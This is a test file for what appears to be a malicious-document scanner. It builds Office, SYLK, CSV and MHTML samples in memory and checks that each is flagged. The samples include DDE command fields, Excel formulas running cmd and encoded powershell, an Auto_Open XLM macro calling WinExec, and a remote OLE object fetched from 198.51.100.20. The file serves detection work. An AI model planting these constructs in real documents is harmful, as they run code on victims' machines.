"""Word 2003 XML / flat OPC, Excel 2003 XML, SYLK, CSV and MHTML, built in memory."""

from __future__ import annotations

import base64
import zlib

from aptcatch.capture.engine import Scanner
from tests.capture.formats.ooxml_helpers import W, details, ids

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def _activemime(payload: bytes) -> bytes:
    return b"ActiveMime\0\0\x01\xf0\x04\0\0\0" + b"\xff" * 34 + zlib.compress(payload)


def test_word2003_dde_text_and_activemime(scanner: Scanner) -> None:
    blob = base64.b64encode(_activemime(OLE)).decode()
    xml = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        f'<w:wordDocument {W.replace("2006/main", "2006/main")} w:macrosPresent="yes">'
        '<o:DocumentProperties xmlns:o="urn:schemas-microsoft-com:office:office"><o:Author>Kim</o:Author>'
        '</o:DocumentProperties><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body>'
        f'<w:binData w:name="editdata.mso">{blob}</w:binData></w:wordDocument>'
    )
    r = scanner.scan_bytes(xml.encode(), name="w.xml")
    assert r.type == "word-xml"
    assert {"dde.command", "ooxml.activemime"} <= ids(r)
    child = r.artifact.children[0]
    assert child.name == "editdata.mso:activemime" and child.size == len(OLE)
    assert r.artifact.metadata["author"] == "Kim"
    assert r.lure.excerpt is not None and "Quarterly report" in r.lure.excerpt


def test_flat_opc_is_rebuilt_as_package(scanner: Scanner) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>'
    )
    doc_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'oleObject" Target="http://198.51.100.20/x.rtf" TargetMode="External"/></Relationships>'
    )
    xml = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        f'<pkg:part pkg:name="/_rels/.rels" pkg:contentType="x"><pkg:xmlData>{rels}</pkg:xmlData></pkg:part>'
        f'<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="x"><pkg:xmlData>{doc_rels}'
        "</pkg:xmlData></pkg:part>"
        '<pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-'
        f'officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document {W}><w:body/>'
        "</w:document></pkg:xmlData></pkg:part>"
        '<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject">'
        f"<pkg:binaryData>{base64.b64encode(OLE).decode()}</pkg:binaryData></pkg:part></pkg:package>"
    )
    r = scanner.scan_bytes(xml.encode(), name="flat.xml")
    assert "ooxml.external_oleobject" in ids(r)
    pkg = r.artifact.children[0]
    assert pkg.type == "ooxml-word"
    assert "word/vbaProject.bin" in {c.name for c in pkg.children}


def test_excel2003_dde_formula_and_supbook(scanner: Scanner) -> None:
    xml = (
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><ExcelWorkbook><SupBook>'
        '<Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook><Worksheet ss:Name="S"><Table><Row>'
        '<Cell ss:Formula="=cmd|\'/c powershell -enc AAAA\'!A1"><Data ss:Type="Number">0</Data></Cell>'
        "</Row></Table></Worksheet></Workbook>"
    )
    r = scanner.scan_bytes(xml.encode(), name="e.xml")
    assert r.type == "excel-xml"
    assert any("powershell" in d for d in details(r, "dde.command"))
    assert any("SupBook" in d for d in details(r, "dde.command"))


def test_sylk_xlm(scanner: Scanner) -> None:
    slk = (
        "ID;PWXL;N;E\r\nO;L;E;D;V0;K47;G100 0.001\r\nNN;NAuto_Open;ER1C1\r\n"
        'C;Y1;X1;EEXEC("cmd /c calc")\r\nC;Y2;X1;ECALL("Kernel32","WinExec","JCJ","calc",0)\r\n'
        "C;Y3;X1;EHALT()\r\nE\r\n"
    )
    r = scanner.scan_bytes(slk.encode(), name="x.slk")
    assert r.type == "slk"
    assert {"xlm.macrosheet", "xlm.auto_open", "xlm.exec", "xlm.native_api"} <= ids(r)
    assert r.verdict == "malicious"


def test_csv_dde(scanner: Scanner) -> None:
    r = scanner.scan_bytes(b"name,value\n=cmd|' /C calc'!A0,1\n", name="x.csv")
    assert "dde.command" in ids(r)
    clean = scanner.scan_bytes(b"a,b,c\n1,2,3\nfoo|bar,x,y\n", name="y.csv")
    assert not ids(clean) & {"dde.command", "dde.link"}


def test_mht_activemime(scanner: Scanner) -> None:
    mso = base64.encodebytes(_activemime(OLE)).decode()
    mht = (
        'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="B"\r\n\r\n--B\r\n'
        "Content-Location: file:///C:/doc.htm\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        "<html><body><p>Invoice attached</p></body></html>\r\n--B\r\n"
        "Content-Location: file:///C:/doc_files/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Type: application/x-mso\r\n\r\n{mso}\r\n--B--\r\n"
    )
    r = scanner.scan_bytes(mht.encode(), name="x.mht")
    assert r.type == "mht"
    assert "ooxml.activemime" in ids(r)
    assert any(c.name == "editdata.mso:activemime" for c in r.artifact.children)
